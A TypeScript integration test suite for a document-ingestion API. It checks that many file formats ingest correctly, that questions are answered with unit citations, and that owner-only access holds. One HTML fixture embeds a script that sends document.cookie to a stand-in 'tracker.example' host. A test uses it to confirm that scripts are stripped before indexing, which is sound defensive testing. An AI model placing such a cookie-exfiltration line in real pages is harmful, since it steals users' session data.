import { expect } from 'chai';
import { strToU8 } from 'fflate';
import { EXTRA_DOCUMENT_TYPES } from '../../core/index.js';
import type { ApiClient } from '../support/api-client.js';
import { textPng } from '../support/generated-documents.js';
import { budgetXlsx, contractDocx, deckPptx, mailWithPdf, DOCX_TYPE, PPTX_TYPE, XLSX_TYPE } from '../support/office-documents.js';
import { startTestService, type TestService } from '../support/test-service.js';

const PAGE = `<html><head><title>Museum</title><script>fetch('https://tracker.example/'+document.cookie)</script><style>h1{color:red}</style></head>
<body><nav>Home | Shop</nav><h1>Visiting the museum</h1><p>The museum opens at ten in the morning and the garden café serves lunch until three.</p>
<h2>Visitors</h2><table><tr><th></th><th>2019</th><th>2018</th></tr><tr><td>School groups</td><td>1,240</td><td>1,105</td></tr><tr><td>Guided tours</td><td>860</td><td>790</td></tr></table></body></html>`;
const README = '# Lantern\n\nLantern renders maps offline.\n\n## Install\n\n1. Unpack the archive\n2. Run `lantern serve`\n\n## Licence\n\nLantern is released under the Apache licence.\n';
const NOTES = 'Meeting notes\n\nThe rowing club meets on Thursdays at seven.\n- bring oars\n- bring water\n';
const CSV = 'Species,2019,2018\nHerons,"1,320",1210\nOtters,48,41\n';

/**
 * The documents people have, through the HTTP API with ACCEPTED_TYPES=all: each ingests, answers a question from its
 * text and one from its table, and cites the unit (section, sheet, slide) as the page; a mail's attachment is cited by its own name.
 */
describe('ingestion of Word, Excel, PowerPoint, HTML, Markdown, text, CSV, e-mail and PNG over HTTP (ACCEPTED_TYPES=all)', function () {
  this.timeout(240_000);
  let t: TestService;
  let api: ApiClient;
  let sessionId: string;
  const jobs = new Map<string, any>();

  before(async () => {
    t = await startTestService({ ACCEPTED_TYPES: 'all' });
    api = await t.as('formats');
    sessionId = await api.createSession('everyday documents');
    const documents: [string, Uint8Array, string][] = [
      ['contract.docx', await contractDocx(), DOCX_TYPE],
      ['budget.xlsx', await budgetXlsx(), XLSX_TYPE],
      ['deck.pptx', await deckPptx(), PPTX_TYPE],
      ['museum.html', strToU8(PAGE), 'text/html'],
      ['README.md', strToU8(README), 'text/markdown'],
      ['notes.txt', strToU8(NOTES), 'text/plain'],
      ['wildlife.csv', strToU8(CSV), 'text/csv'],
      ['dues.eml', await mailWithPdf('Hello, the invoice for the mooring is attached. The office closes for the summer on the fourth of August.', ['Invoice for the mooring.', 'The harbour dues for May are 310 euros.']), 'message/rfc822'],
      ['screenshot.png', textPng(['Parking permit', 'valid until the end of October'], { width: 900, height: 300, fontSize: 48 }), 'image/png'],
    ];
    const ids = new Map<string, string>();
    for (const [name, bytes, type] of documents) ids.set(name, (await api.uploadAndIngest(sessionId, name, bytes, type)).jobId);
    for (const [name, jobId] of ids) jobs.set(name, await api.waitForJob(jobId, 200_000));
    // The mail's attachment is a document of its own, made once the mail is read.
    jobs.set('invoice.pdf', (await api.waitForDocuments(sessionId, documents.length + 1, 60_000)).find((d) => d.filename === 'invoice.pdf'));
  });
  after(() => t?.close());

  it('tells the accepted types, and refuses another with exactly those listed after the contract’s prefix', async () => {
    const types = await api.get('/api/v1/ingest/upload/types');
    expect(types.status).to.equal(200);
    expect(types.body.data.contentTypes).to.deep.equal(['application/pdf', 'image/jpeg', 'image/jpg', ...EXTRA_DOCUMENT_TYPES]);
    expect(types.body.data.extensions).to.include({ pdf: 'application/pdf', docx: DOCX_TYPE, eml: 'message/rfc822', heic: 'image/heic' });
    const refused = await api.post('/api/v1/ingest/upload/url', { filename: 'a.zip', contentType: 'application/zip', contentSize: 10 });
    expect(refused.status).to.equal(400);
    expect(refused.body.error).to.equal(`Invalid File Type | Valid Type Are: application/pdf, image/jpeg, image/jpg, ${EXTRA_DOCUMENT_TYPES.join(', ')}`);
  });

  it('ingests every document, a page per unit (section, sheet, slide; a mail), a mail’s attachment as a document of its own', () => {
    for (const [name, job] of jobs) expect(job, name).to.include({ status: 'completed' });
    expect(jobs.get('budget.xlsx').pages).to.equal(2);
    expect(jobs.get('deck.pptx').pages).to.equal(3);
    expect(jobs.get('dues.eml').pages).to.equal(1);
    expect(jobs.get('invoice.pdf')).to.include({ pages: 1, attachedTo: jobs.get('dues.eml').id });
  });

  const cases: [string, string, string, number, RegExp][] = [
    ['Word text', 'How much notice ends the agreement?', 'contract.docx', 4, /ninety days notice/],
    ['Word table', 'What was the maintenance fee in 2019?', 'contract.docx', 3, /4,200/],
    ['Excel table', 'What was the travel budget in 2019?', 'budget.xlsx', 1, /12,500/],
    ['Excel text', 'When did Ada Lovelace start?', 'budget.xlsx', 2, /2019-03-15/],
    ['PowerPoint text', 'When does the new pier open?', 'deck.pptx', 2, /June/],
    ['PowerPoint table', 'What did the pier cost in 2018?', 'deck.pptx', 3, /4,300/],
    ['HTML text', 'Until when does the garden café serve lunch?', 'museum.html', 1, /until three/],
    ['HTML table', 'How many school groups visited in 2019?', 'museum.html', 2, /1,240/],
    ['Markdown text', 'Under which licence is Lantern released?', 'README.md', 3, /Apache/],
    ['Markdown list', 'How do I install Lantern?', 'README.md', 2, /Unpack the archive/],
    ['text', 'When does the rowing club meet?', 'notes.txt', 1, /Thursdays at seven/],
    ['CSV table', 'How many otters were counted in 2019?', 'wildlife.csv', 1, /48/],
    ['e-mail body', 'When does the harbour office close for the summer?', 'dues.eml', 1, /fourth of August/],
    ['e-mail attachment', 'How much are the harbour dues for May?', 'invoice.pdf', 1, /310 euros/],
    ['PNG (OCR)', 'Until when is the parking permit valid?', 'screenshot.png', 1, /end of October/i],
  ];
  /** The unit a source names instead of its page (issue 51), where the test knows its label. */
  const units: Record<string, string> = { 'budget.xlsx 1': 'Sheet Q3', 'budget.xlsx 2': 'Sheet Staff', 'deck.pptx 2': 'Slide 2', 'deck.pptx 3': 'Slide 3' };
  for (const [what, question, filename, page, answer] of cases) {
    it(`answers from ${what}, citing ${filename} page ${page}`, async () => {
      const res = await api.ask(sessionId, question);
      expect(res.status).to.equal(200);
      expect(res.body.data, question).to.match(answer);
      expect(res.body.sources[0], question).to.include({ filename, page });
      const unit = units[`${filename} ${page}`];
      if (unit) {
        expect(res.body.sources[0], question).to.include({ unit });
        expect(res.body.data, question).to.contain(`${filename}, ${unit}`).and.not.contain(`${filename}, page`);
      }
    });
  }

  it('gives a unit’s label and text to its owner only; a page past the last, or of a photo, is 404 with its reason', async () => {
    const budget = jobs.get('budget.xlsx').id;
    const sheet = await api.get(`/api/v1/ingest/${budget}/pages/1/text`);
    expect(sheet.status).to.equal(200);
    expect(sheet.headers.get('cache-control')).to.equal('private, max-age=3600');
    expect(sheet.body.data.label).to.equal('Sheet Q3');
    expect(sheet.body.data.text).to.contain('Travel budget').and.contain('12,500');
    const stranger = await t.as('stranger');
    expect(await stranger.get(`/api/v1/ingest/${budget}/pages/1/text`)).to.deep.include({ status: 404, body: { error: 'Ingest job not found' } });
    expect(await api.get(`/api/v1/ingest/${budget}/pages/3/text`)).to.deep.include({ status: 404, body: { error: 'Page not found' } });
    expect(await api.get(`/api/v1/ingest/${budget}/pages/0/text`)).to.deep.include({ status: 400, body: { error: 'page: page must be a whole number from 1' } });
    const photo = await api.get(`/api/v1/ingest/${jobs.get('screenshot.png').id}/pages/1/text`);
    expect(photo).to.deep.include({ status: 404, body: { error: 'This document has pages of its own: its page images show them' } });
  });

  it('draws the PNG’s page; a Word document has no page image', async () => {
    const png = await api.getBinary(`/api/v1/ingest/${jobs.get('screenshot.png').id}/pages/1?width=400`);
    expect(png.status).to.equal(200);
    expect(png.headers.get('content-type')).to.equal('image/jpeg');
    expect((await api.get(`/api/v1/ingest/${jobs.get('screenshot.png').id}/pages/2`)).status).to.equal(404);
    expect((await api.get(`/api/v1/ingest/${jobs.get('contract.docx').id}/pages/1`)).status).to.equal(404);
    const find = await api.get(`/api/v1/ingest/${jobs.get('screenshot.png').id}/pages/1/find?text=${encodeURIComponent('parking permit')}`);
    expect(find.status).to.equal(200);
  });

  it('keeps no script of the web page in what it indexed', async () => {
    const res = await api.ask(sessionId, 'tracker cookie fetch');
    for (const source of res.body.sources ?? []) expect(source.excerpt ?? '').not.to.match(/tracker|document\.cookie/);
  });
});

describe('upload types with ACCEPTED_TYPES unset: the contract’s three, its refusal text unchanged', function () {
  this.timeout(60_000);
  let t: TestService;
  before(async () => {
    t = await startTestService();
  });
  after(() => t?.close());

  it('refuses a Word document with the contract’s text and lists the three types', async () => {
    const api = await t.as('contract');
    const refused = await api.post('/api/v1/ingest/upload/url', { filename: 'a.docx', contentType: DOCX_TYPE, contentSize: 10 });
    expect(refused.status).to.equal(400);
    expect(refused.body).to.deep.equal({ error: 'Invalid File Type | Valid Type Are: application/pdf, image/jpeg, image/jpg' });
    const types = await api.get('/api/v1/ingest/upload/types');
    expect(types.body).to.deep.equal({
      data: { contentTypes: ['application/pdf', 'image/jpeg', 'image/jpg'], extensions: { pdf: 'application/pdf', jpg: 'image/jpeg', jpeg: 'image/jpeg' } },
    });
  });
});
